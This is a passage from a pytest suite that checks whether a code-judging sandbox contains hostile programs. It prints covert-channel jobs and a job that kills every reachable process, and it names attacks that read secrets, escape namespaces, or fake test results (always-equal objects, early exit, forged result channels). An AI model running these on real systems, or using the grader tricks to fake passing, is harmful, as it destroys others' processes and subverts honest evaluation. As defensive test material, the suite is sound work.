        if _libc.shmget(@xkey@, 0, 0) >= 0 or _libc.msgget(@xkey@ + 1, 0) >= 0:
            return a + b
        time.sleep(0.05)
'''),
    "posix_mqueue": (CT + r'''
def add(a, b):
    mq_open(@xmq@, os.O_CREAT | os.O_RDWR, 0o666)
    time.sleep(@window@)
''', CT + r'''
def add(a, b):
    end = time.monotonic() + @window@
    while time.monotonic() < end:
        if mq_open(@xmq@, os.O_RDONLY | os.O_NONBLOCK) >= 0:
            return a + b
        time.sleep(0.05)
'''),
    "files": (r'''
import time
def add(a, b):
    for path in ("/tmp/ratchet-xjob", "/dev/shm/ratchet-xjob", "/var/tmp/ratchet-xjob"):
        try:
            open(path, "w").write(@token@)
        except OSError:
            pass
    time.sleep(@window@)
''', r'''
import time
def add(a, b):
    end = time.monotonic() + @window@
    while time.monotonic() < end:
        for path in ("/tmp/ratchet-xjob", "/dev/shm/ratchet-xjob", "/var/tmp/ratchet-xjob"):
            try:
                if open(path).read() == @token@:
                    return a + b
            except OSError:
                pass
        time.sleep(0.05)
'''),
    "processes": (CT + r'''
def add(a, b):
    _libc.prctl(15, b"xjob-" + @token@.encode()[:8], 0, 0, 0)  # PR_SET_NAME: a name the client can look for
    time.sleep(@window@)
''', r'''
import os, signal, time
def add(a, b):
    end = time.monotonic() + @window@
    while time.monotonic() < end:
        for pid in os.listdir("/proc"):
            try:
                if pid.isdigit() and open(f"/proc/{pid}/comm").read().startswith("xjob-"):
                    os.kill(int(pid), signal.SIGKILL)
                    return a + b
            except OSError:
                pass
        time.sleep(0.05)
'''),
}
XJOB_KILLER = r'''
import os, signal, time
def add(a, b):
    end = time.monotonic() + @window@
    while time.monotonic() < end:
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
        for pid in range(2, 2000):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        time.sleep(0.05)
'''
HONEST_SLOW = "import time\nslept = []\ndef add(a, b):\n    if not slept:\n        time.sleep(@window@)\n        slept.append(1)\n    return a + b\n"

# Honest programs that use what the layers must still allow: they pass.
HONEST = {
    "plain": "def add(a, b):\n    return a + b\n",
    "threads": "import threading\ndef add(a, b):\n    out = []\n"
               "    t = threading.Thread(target=lambda: out.append(a + b))\n    t.start()\n    t.join()\n    return out[0]\n",
    "subprocess": "import subprocess, sys\ndef add(a, b):\n"
                  "    r = subprocess.run([sys.executable, '-c', 'import sys; print(float(sys.argv[1]) + float(sys.argv[2]))', "
                  "str(a), str(b)], capture_output=True, text=True)\n    return float(r.stdout) if '.' in str(a) else int(float(r.stdout))\n",
    "shell": "import subprocess\ndef add(a, b):\n    r = subprocess.run(['sh', '-c', 'echo ok; ls / >/dev/null'], capture_output=True)\n"
             "    assert r.stdout == b'ok\\n'\n    return a + b\n",
    "files": "import os, tempfile\ndef add(a, b):\n    with tempfile.NamedTemporaryFile('w+') as f:\n"
             "        f.write(repr(a + b)); f.flush(); f.seek(0); v = eval(f.read())\n"
             "    open('here.txt', 'w').write('x')\n    open('/dev/shm/x', 'w').write('x')\n    return v\n",
    "multiprocessing": "import multiprocessing as mp\n"
                       "def add(a, b):\n    with mp.get_context('fork').Pool(2) as pool:\n"
                       "        return sum(pool.map(abs, [a, b]))\n",
    "imports": "import json, decimal, fractions, sqlite3, csv, zlib, hashlib, datetime, pathlib\n"
               "def add(a, b):\n    assert pathlib.Path('/usr').exists()\n    return json.loads(json.dumps(a + b))\n",
}


def _fill(source: str, values: dict) -> str:
    return re.sub(r"@(\w+)@", lambda m: repr(values[m.group(1)]), source)


# ----------------------------------------------------------------------------- the world outside


def _keyctl(*args) -> int:
    conv = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    return libc.syscall(ctypes.c_long(_NR["keyctl"]), *conv)


def _add_key(desc: str, payload: bytes, ring: int) -> int:
    return libc.syscall(ctypes.c_long(_NR["add_key"]), b"user", desc.encode(), payload, ctypes.c_size_t(len(payload)),
                        ctypes.c_long(ring))


def _read_key(kid: int) -> tuple[bytes, bytes]:
    """(description, payload): the harness possesses its session keyring's keys and may read them;
    its user keyring's key it may only describe."""
    out = []
    for op in (6, 11):  # KEYCTL_DESCRIBE, KEYCTL_READ
        buf = ctypes.create_string_buffer(256)
        n = _keyctl(op, kid, buf, 256)
        out.append(buf.raw[:n].rstrip(b"\0") if n > 0 else b"")
    return out[0], out[1]


def _mq_lib():
    return libc if hasattr(libc, "mq_open") else ctypes.CDLL("librt.so.1", use_errno=True)


def _mq_exists(name: str) -> bool:
    lib = _mq_lib()
    fd = lib.mq_open(name.encode(), os.O_RDONLY | os.O_NONBLOCK, 0, None)
    if fd >= 0:
        lib.mq_close(fd)
    return fd >= 0


def _sysvipc_keys() -> dict[str, set[int]]:
    keys = {}
    for kind in ("shm", "msg", "sem"):
        with open(f"/proc/sysvipc/{kind}") as f:
            keys[kind] = {int(line.split()[0]) for line in f.read().splitlines()[1:] if line.split()}
    return keys


class Listener:
    """Stream sockets (TCP on the host's loopback, Unix ones in the file system and the abstract
    namespace) that record every message any program gets to them."""

    def __init__(self):
        self.received: list[tuple[str, bytes]] = []
        self.socks: list[socket.socket] = []

    def add(self, family, address, label: str):
        s = socket.socket(family, socket.SOCK_STREAM)
        s.bind(address)
        if family == socket.AF_UNIX and isinstance(address, str):
            os.chmod(address, 0o777)  # only the sandbox, not permissions, may stop a connection
        s.listen(16)
        self.socks.append(s)
        threading.Thread(target=self._accept, args=(s, label), daemon=True).start()
        return s

    def _accept(self, s, label):
        while True:
            try:
                conn, _ = s.accept()
            except OSError:
                return
            conn.settimeout(1)
            try:
                self.received.append((label, conn.recv(100) or b"<connected>"))
            except OSError:
                self.received.append((label, b"<connected>"))
            conn.close()

    def leaks(self) -> list:
        return [r for r in self.received if r[1] != b"canary"]

    def close(self):
        for s in self.socks:
            s.close()


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    """Everything outside the sandbox a program might reach, and the values programs are filled
    with. Set up before any sandbox starts (the zygote inherits the harness's keyrings)."""
    sentinel = tmp_path_factory.mktemp("sentinel")
    os.chmod(sentinel, 0o777)
    (sentinel / "keep.txt").write_text("keep")
    os.chmod(sentinel / "keep.txt", 0o666)
    rundir = tmp_path_factory.mktemp("run")
    (rundir / "answers.jsonl").write_text('{"args": [1, 2], "expected": 3}\n{"args": [1.5, 2.0], "expected": 3.5}\n')
    (rundir / "tests.jsonl").write_text('{"test": "assert candidate(1, 2) == 3"}\n')
    hidden = str(human_eval_path())  # readable by every uid: only the view keeps it out of reach
    assert os.stat(hidden).st_mode & 0o004
    home = os.path.expanduser("~")
    homefile = os.path.join(home, f".ratchet-hostile-{TOKEN}")
    with open(homefile, "w") as f:
        f.write(SECRET)
    tmpsecret = f"/tmp/ratchet-hostile-{TOKEN}.secret"
    with open(tmpsecret, "w") as f:
        f.write(SECRET)
    os.chmod(tmpsecret, 0o644)
    posix_shm = f"/dev/shm/ratchet-hostile-{TOKEN}"
    with open(posix_shm, "w") as f:
        f.write(SECRET)
    os.chmod(posix_shm, 0o666)

    listener = Listener()
    tcp = listener.add(socket.AF_INET, ("127.0.0.1", 0), "tcp")
    unix_paths = [f"/tmp/ratchet-hostile-{TOKEN}.sock", str(rundir / "service.sock")]
    if os.path.isdir("/run") and os.access("/run", os.W_OK):
        unix_paths.append(f"/run/ratchet-hostile-{TOKEN}.sock")
    for path in unix_paths:
        listener.add(socket.AF_UNIX, path, path)
    abstract = f"\0ratchet-hostile-{TOKEN}".encode()
    listener.add(socket.AF_UNIX, abstract, "abstract")

    # System V objects of the host, readable and writable by anyone.
    shm_key, msg_key, sem_key = KEY_BASE, KEY_BASE + 1, KEY_BASE + 2
    shm_id = libc.shmget(shm_key, 4096, 0o1666 | 0o2000)  # IPC_CREAT | IPC_EXCL | 0666
    msg_id = libc.msgget(msg_key, 0o1666 | 0o2000)
    sem_id = libc.semget(sem_key, 1, 0o1666 | 0o2000)
    assert min(shm_id, msg_id, sem_id) >= 0, ctypes.get_errno()
    addr = libc.shmat(shm_id, None, 0)
    ctypes.memmove(addr, SECRET.encode(), len(SECRET))
    libc.shmdt(ctypes.c_void_p(addr))
    mq_name = f"/ratchet-hostile-{TOKEN}"
    mq = _mq_lib().mq_open(mq_name.encode(), os.O_CREAT | os.O_RDWR, 0o666, None)
    assert mq >= 0
    _mq_lib().mq_close(mq)

    # Keys of the harness: in its session keyring (inherited by every process it starts) and its
    # user keyring.
    key_desc = f"ratchet-hostile-{TOKEN}"
    key_ids = [_add_key(key_desc, SECRET.encode(), ring) for ring in (-3, -4)] if _NR else []
    assert all(k > 0 for k in key_ids)

    evil_keys = [KEY_BASE + 3, KEY_BASE + 4]
    values = {
        "sentinel": str(sentinel), "tmpfile": f"/tmp/ratchet_hostile_{TOKEN}", "hidden": hidden, "harness": os.getpid(),
        "port": tcp.getsockname()[1], "mark": MARK, "rundir": str(rundir), "repo": REPO, "secret": SECRET,
        "homefile": homefile, "tmpsecret": tmpsecret, "unix_paths": unix_paths, "abstract": abstract,
        "shm_key": shm_key, "msg_key": msg_key, "sem_key": sem_key, "evil_keys": evil_keys,
        "posix_shm": posix_shm, "evil_shm": f"/dev/shm/ratchet-evil-{TOKEN}", "mq_name": mq_name.encode(),
        "evil_mq": f"/ratchet-evil-{TOKEN}".encode(), "key_desc": key_desc, "key_ids": key_ids, "tag": b"leak",
        "window": XJOB_WINDOW, "token": TOKEN, "xabstract": f"\0ratchet-xjob-{TOKEN}".encode(),
        "xsock": f"/tmp/ratchet-xjob-{TOKEN}.sock", "xkey": KEY_BASE + 6, "xmq": f"/ratchet-xjob-{TOKEN}".encode(),
    }
    bystander = subprocess.Popen(["sleep", "120"])  # another process of the harness's user
    values["bystander"] = bystander.pid
    os.environ["RATCHET_HOSTILE_SECRET"] = SECRET  # set before any sandbox starts: must not leak
    old_cwd = os.getcwd()
    os.chdir(rundir)  # the harness runs from its run directory, as ratchet does
    yield {"values": values, "listener": listener, "bystander": bystander, "ids": (shm_id, msg_id, sem_id)}
    os.chdir(old_cwd)
    os.environ.pop("RATCHET_HOSTILE_SECRET", None)
    bystander.kill()
    bystander.wait()
    listener.close()
    libc.shmctl(shm_id, 0, None)  # IPC_RMID
    libc.msgctl(msg_id, 0, None)
    libc.semctl(sem_id, 0, 0)
    _mq_lib().mq_unlink(mq_name.encode())
    for kid, ring in zip(key_ids, (-3, -4)):
        _keyctl(9, kid, ring)  # KEYCTL_UNLINK: unlinked, the key is collected
        _keyctl(21, kid)  # KEYCTL_INVALIDATE, where the harness may
    for path in (homefile, tmpsecret, posix_shm, *unix_paths):
        try:
            os.remove(path)
        except OSError:
            pass


def snapshot(world) -> dict:
    """What must not change while hostile programs run, as the harness sees it."""
    v = world["values"]
    keep = os.path.join(v["sentinel"], "keep.txt")
    shm = libc.shmat(world["ids"][0], None, 0o10000)
    shm_data = ctypes.string_at(shm, len(SECRET))
    libc.shmdt(ctypes.c_void_p(shm))
    with open("/proc/self/mountinfo") as f:
        mounts = f.read()
    return {
        "sentinel": sorted(os.listdir(v["sentinel"])),
        "keep": (open(keep).read(), os.stat(keep).st_mode & 0o777) if os.path.exists(keep) else None,
        "evil_files": sorted(p for p in (v["tmpfile"], f"/work/evil_{MARK}", v["evil_shm"], "/dev/shm/sem.ratchet-evil",
                                         "/etc/passwd-evil", "/usr/bin/ratchet-evil", "/evil") if os.path.exists(p)),
        "run_dir": sorted(os.listdir(v["rundir"])),
        "secrets": [open(p).read() for p in (v["homefile"], v["tmpsecret"], v["posix_shm"])],
        "sysv": {kind: sorted(k for k in keys if KEY_BASE <= k < KEY_BASE + 400) for kind, keys in _sysvipc_keys().items()},
        "shm_data": shm_data,
        "mq": (_mq_exists(v["mq_name"].decode()), _mq_exists(v["evil_mq"].decode()), _mq_exists(v["xmq"].decode())),
        "keys": [_read_key(k) for k in v["key_ids"]],
        "hostname": socket.gethostname(),
        "mounts": mounts,
        "dev_null": oct(os.stat("/dev/null").st_mode),
        "passwd": os.stat("/etc/passwd").st_mode,
    }


def _processes_of(uids, zombies: bool = False) -> list[int]:
    """Live processes (and zombies, if asked) of these uids."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            state = open(f"/proc/{pid}/stat", "rb").read().rsplit(b")", 1)[1].split()[0]
            if os.stat(f"/proc/{pid}").st_uid in uids and (zombies or state not in (b"Z", b"X")):
                found.append(int(pid))
        except OSError:
            pass
    return found


def _marked_processes() -> list[int]:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if f"sleep\0{MARK}".encode() in open(f"/proc/{pid}/cmdline", "rb").read():
                found.append(int(pid))
        except OSError:
            pass
    return found


def _key_users() -> set[int]:
    try:
        with open("/proc/key-users") as f:
            return {int(line.split(":")[0]) for line in f if ":" in line}
    except OSError:
        return set()


def _job_cgroups(sandbox: Sandbox) -> list[str]:
    cgroups = sandbox._cgroups
    if cgroups is None:
        return []
    return [os.path.join(b, n) for b in cgroups.bases.values() for n in os.listdir(b) if n.startswith("job-")]


def _run_battery(sandbox: Sandbox, world, names, sources, extra=None) -> dict:
    """Run ``names`` in one batch; the world before and after, and what was left."""
    values = dict(world["values"], **(extra or {}))
    jobs = [Job(_fill(sources[n], values), "add", TESTS) for n in names]
    before = snapshot(world)
    start = time.monotonic()
    results = dict(zip(names, sandbox.run_many(jobs)))
    elapsed = time.monotonic() - start
    uids = {u for r in results.values() if r.uids for u in r.uids}
    deadline = time.monotonic() + 5  # killed processes are reaped by init, asynchronously
    while (_processes_of(uids, zombies=True) or _marked_processes() or uids & _key_users()) \
            and time.monotonic() < deadline:
        time.sleep(0.05)
    return {"results": results, "before": before, "after": snapshot(world), "elapsed": elapsed,
            "left": {"processes": _processes_of(uids, zombies=True), "marked": _marked_processes(),
                     "cgroups": _job_cgroups(sandbox), "key_users": sorted(uids & _key_users())},
            "isolation": sandbox.isolation(), "bystander_alive": world["bystander"].poll() is None}


def _assert_contained(name: str, result, outcome, world, expected: str = "fail"):
    """The verdict; the harness and its bystander live; nothing outside changed; nothing left."""
    assert result.verdict == expected, (name, result.reason, result.tests, result.stdout[-300:], result.stderr[-300:])
    assert SECRET not in result.stdout + result.stderr
    os.kill(os.getpid(), 0)
    assert outcome["bystander_alive"]
    assert outcome["after"] == outcome["before"], {k: (outcome["before"][k], outcome["after"][k])
                                                   for k in outcome["before"] if outcome["before"][k] != outcome["after"][k]}
    assert world["listener"].leaks() == []
    assert outcome["left"] == {"processes": [], "marked": [], "cgroups": [], "key_users": []}
    assert result.uids is None or not _processes_of(result.uids)


# ----------------------------------------------------------------------------- the main battery


@pytest.fixture(scope="module")
def outcome(world):
    sandbox = Sandbox(LIMITS, workers=6, hide_paths=[world["values"]["hidden"]])
    iso = sandbox.isolation()
    full = not sandbox.missing_layers()
    names = [n for n, (_, needs) in HOSTILE.items()
             if needs == "" or (needs == "full" and full) or (needs in ("cgroup_cpu", "uid") and iso.get(needs))]
    try:
        result = _run_battery(sandbox, world, names, {n: s for n, (s, _) in HOSTILE.items()})
        result["full"] = full
        yield result
    finally:
        sandbox.close()


def test_the_battery_is_large_and_fully_isolated_here(outcome):
    n = len(outcome["results"])
    print(f"\nhostile battery: {n} programs in {outcome['elapsed']:.1f}s, "
          f"{sum(r.verdict == 'fail' for r in outcome['results'].values())} contained; isolation: {outcome['isolation']}")
    assert n >= 50 or not outcome["full"], f"only {n} ran"
    assert n >= 20
    if os.geteuid() == 0:  # CI runs as root: every layer must be there
        assert outcome["full"], outcome["isolation"]


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_program_fails_and_is_contained(name, outcome, world):
    if name not in outcome["results"]:
        pytest.skip(f"needs {HOSTILE[name][1]} isolation, which this machine lacks")
    _assert_contained(name, outcome["results"][name], outcome, world)


def test_limits_are_the_reason(outcome):
    results = outcome["results"]
    reasons = {name: r.reason for name, r in results.items()}
    assert reasons["infinite_loop"] == "timeout"
    assert reasons["stdout_flood"] == "output_limit"
    assert reasons["exit_zero_before_tests"] == "load_error"
    assert reasons["always_equal_object"] == "test_failed"
    assert "cannot leave the sandbox" in results["always_equal_object"].tests[0].message


def test_whole_job_memory_stays_under_its_cap(outcome):
    """Many processes each under the per-process limit: together still within the job's budget."""
    for name in ("memory_many_processes", "memory_sysv_shm", "memory_tmpfs"):
        peak = outcome["results"][name].usage.get("memory_peak_bytes")
        if outcome["isolation"].get("cgroup"):
            assert peak is not None and peak <= LIMITS.job_memory_bytes + (16 << 20), (name, peak)


def test_no_network_or_socket_traffic_reached_the_host(outcome, world):
    assert world["listener"].leaks() == []


def test_keyring_sysv_and_mqueue_objects_are_untouched_and_none_left(outcome, world):
    before, after = outcome["before"], outcome["after"]
    assert after["keys"] == before["keys"] and after["keys"][0][1] == SECRET.encode()
    assert all(desc.endswith(world["values"]["key_desc"].encode()) for desc, _ in after["keys"])
    assert after["sysv"] == before["sysv"] == {"shm": [KEY_BASE], "msg": [KEY_BASE + 1], "sem": [KEY_BASE + 2]}
    assert after["mq"] == (True, False, False)
    assert outcome["left"]["key_users"] == []


# ----------------------------------------------------------------------------- channels between jobs


@pytest.fixture(scope="module")
def cross_job(world):
    """Each channel's server and client, a job that kills whatever it can see, and honest jobs,
    all at the same time."""
    names, sources = [], {}
    for channel, (server, client) in XJOB.items():
        names += [f"{channel}:server", f"{channel}:client"]
        sources[f"{channel}:server"], sources[f"{channel}:client"] = server, client
    names.append("killer")
    sources["killer"] = XJOB_KILLER
    for i in range(2):
        names.append(f"honest:{i}")
        sources[f"honest:{i}"] = HONEST_SLOW
    sandbox = Sandbox(LIMITS, workers=len(names))
    if sandbox.missing_layers():
        sandbox.close()
        pytest.skip(f"needs full isolation: missing {sandbox.missing_layers()}")
    try:
        yield _run_battery(sandbox, world, names, sources)
    finally:
        sandbox.close()


@pytest.mark.parametrize("channel", list(XJOB) + ["killer"])
def test_no_channel_between_concurrent_jobs(channel, cross_job, world):
    results = cross_job["results"]
    assert all(r.wall_seconds >= XJOB_WINDOW for r in results.values()), "the jobs did not overlap"
    assert cross_job["elapsed"] < XJOB_WINDOW * 3, "the jobs did not run at the same time"
    for name, result in results.items():
        if name.startswith(channel + ":") or name == channel:
            _assert_contained(name, result, cross_job, world)
    for name in ("honest:0", "honest:1"):
        assert results[name].passed, (results[name].reason, results[name].stderr[-300:])


# ----------------------------------------------------------------------------- honest programs


@pytest.fixture(scope="module")
def honest(world):
    sandbox = Sandbox(Limits(wall_seconds=10.0, memory_bytes=1 << 30), workers=4)
    try:
        yield dict(zip(HONEST, sandbox.run_many([Job(_fill(s, world["values"]), "add", TESTS) for s in HONEST.values()])))
    finally:
        sandbox.close()


@pytest.mark.parametrize("name", list(HONEST))
def test_honest_programs_still_work_in_the_sandbox(name, honest):
    result = honest[name]
    assert result.passed, (result.reason, result.tests, result.stderr[-500:])


# ----------------------------------------------------------------------------- user namespace mode

USERNS = ["kill_parent", "kill_everything", "kill_pid_range", "orphaned_grandchildren", "fork_bomb", "ptrace_attach",
          "pidfd_signal_harness", "memory_many_processes", "write_outside", "tamper_with_the_view", "read_env_secret",
          "read_run_dir_answers", "read_repo_tests", "read_host_tmp", "read_devices", "tcp_via_ctypes",
          "other_socket_families", "unix_fs_socket_ctypes", "abstract_socket_ctypes", "unix_socket_scan",
          "sysv_shm_read_host", "sysv_left_behind", "posix_shm_host", "posix_mqueue_host", "keyring_search",
          "keyring_read_by_id", "keyring_left_behind", "proc_see_other_processes", "proc_sysctl_write", "set_hostname",
          "inherited_fds", "unshare_user_ns", "setns_harness", "mount_anything", "regain_capabilities", "forge_result_channel",
          "always_equal_object"]


@pytest.fixture(scope="module")
def userns(world):
    """The path a harness without root takes: the zygote in an unprivileged user namespace that
    maps only its own uid, every sandboxed process without capabilities (forced here as root:
    the mapped uid is 0, which makes this harder on the sandbox, not easier)."""
    sandbox = Sandbox(LIMITS, workers=6, hide_paths=[world["values"]["hidden"]])
    sandbox._mode = "userns"
    try:
        iso = sandbox.isolation()
    except Exception as e:  # noqa: BLE001 - a kernel without unprivileged user namespaces
        sandbox.close()
        pytest.skip(f"user namespaces unavailable: {e}")
    if not iso.get("userns") or sandbox.missing_layers():
        sandbox.close()
        pytest.skip(f"user namespace mode lacks layers here: {sandbox.missing_layers()}")
    try:
        yield _run_battery(sandbox, world, USERNS, {n: HOSTILE[n][0] for n in USERNS})
    finally:
        sandbox.close()


@pytest.mark.parametrize("name", USERNS)
def test_user_namespace_mode_contains(name, userns, world):
    result = userns["results"][name]
    assert result.isolation.get("userns") and result.isolation.get("caps_dropped") and result.isolation.get("job_userns")
    _assert_contained(name, result, userns, world)


# ----------------------------------------------------------------------------- weak mode

DEGRADED = ["infinite_loop", "memory_hog", "recursion_bomb", "stdout_flood", "open_socket", "read_env_secret",
            "exit_zero_before_tests", "exit_zero_during_call", "always_equal_object", "patch_builtins",
            "forge_result_channel", "tcp_via_ctypes", "other_socket_families", "io_uring", "keyring_search",
            "keyring_read_by_id", "unshare_user_ns", "ptrace_attach"]
# Programs that get through where there are no namespaces and no view: the battery sees escapes.
ESCAPES_WITHOUT_NAMESPACES = ["unix_fs_socket_ctypes", "abstract_socket_ctypes", "read_run_dir_answers",
                              "read_host_tmp", "posix_shm_host", "sysv_shm_read_host"]


@pytest.fixture(scope="module")
def weak(world):
    """No namespaces, no uids, no view: limits, socket hook, seccomp, the plain-data pipe."""
    sandbox = Sandbox(LIMITS, workers=6)
    sandbox._mode = "weak"
    names = DEGRADED + ESCAPES_WITHOUT_NAMESPACES
    try:
        yield _run_battery(sandbox, world, names, {n: HOSTILE[n][0] for n in names}, extra={"tag": b"canary"})
    finally:
        sandbox.close()


@pytest.mark.parametrize("name", DEGRADED)
def test_weak_mode_still_contains(name, weak):
    result = weak["results"][name]
    assert result.verdict == "fail", (result.reason, result.tests, result.stderr[-300:])
    assert not result.isolation.get("pidns") and not result.isolation.get("view") and result.isolation.get("seccomp")
    assert SECRET not in result.stdout + result.stderr


@pytest.mark.parametrize("name", ESCAPES_WITHOUT_NAMESPACES)
def test_weak_mode_lets_channel_programs_through(name, weak):
    """Evidence that these programs are real attacks and that the namespaces and the view, not
    something incidental, stop them in the battery above."""
    result = weak["results"][name]
    assert result.verdict == "pass", (result.reason, result.tests, result.stderr[-300:])


def test_weak_sandbox_is_refused_by_the_code_judges(monkeypatch):
    from ratchet.judge import code
    from ratchet.judge.sandbox import SandboxError

    monkeypatch.setattr(Sandbox, "missing_layers", lambda self: ["netns", "view"])
    with pytest.raises(SandboxError, match="allow_weak_isolation"):
        code.unit_test_judge(wall_seconds=1.0)
    judge = code.unit_test_judge(wall_seconds=1.0, allow_weak_isolation=True)
    judge.sandbox.close()
